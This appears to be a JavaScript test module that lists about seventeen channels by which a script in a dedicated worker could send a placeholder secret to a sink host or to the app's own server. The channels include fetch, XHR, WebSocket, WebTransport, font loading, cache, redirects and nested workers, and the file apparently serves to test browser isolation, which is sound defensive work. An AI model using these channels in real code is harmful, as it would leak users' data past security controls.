/** Ways by which a script in a dedicated worker could get a byte out. See page-channels.js. */
const LOOT = 'loot=SECRET-4711';

export const WORKER_CHANNELS = {
  fetch: (sink) => fetch(`${sink.url}/?${LOOT}`, { mode: 'no-cors' }),
  'fetch-keepalive': (sink) => fetch(sink.url, { mode: 'no-cors', method: 'POST', keepalive: true, body: LOOT }),
  xhr: (sink) => {
    const request = new XMLHttpRequest();
    request.open('POST', sink.url);
    request.send(LOOT);
  },
  websocket: (sink) => new WebSocket(`ws://${sink.host}:${sink.port}/?${LOOT}`),
  'websocket-stream': (sink) => new WebSocketStream(`ws://${sink.host}:${sink.port}/?${LOOT}`),
  'event-source': (sink) => new EventSource(`${sink.url}/?${LOOT}`),
  'web-transport': (sink) => new WebTransport(`https://${sink.host}:${sink.port}/?${LOOT}`),
  'dynamic-import': (sink) => import(`${sink.url}/?${LOOT}`),
  font: (sink) => new FontFace('x', `url("${sink.url}/?${LOOT}")`).load(),
  'cache-add': async (sink) => (await caches.open('x')).add(new Request(`${sink.url}/?${LOOT}`, { mode: 'no-cors' })),
  'same-origin-redirect': (sink) => fetch(`/redirect?to=${encodeURIComponent(`${sink.url}/?${LOOT}`)}`, { mode: 'no-cors' }),
  'cross-origin-worker': (sink) => new Worker(`${sink.url}/?${LOOT}`),
  'blob-worker': (sink) => {
    const source = `fetch("${sink.url}/?${LOOT}", { mode: "no-cors" })`;
    new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  },
  'nested-worker': (sink) => new Worker('/channels/relay.js', { name: `${sink.url}/?${LOOT}` }),
};

/** Ways to tell the app's own server something; only a cache-only service worker closes these. */
export const OWN_SERVER_WORKER_CHANNELS = {
  'own-fetch': () => fetch(`/own-fetch?${LOOT}`),
  'own-module': () => import(`/own-module?${LOOT}`),
  'own-worker': () => new Worker(`/own-worker?${LOOT}`),
};
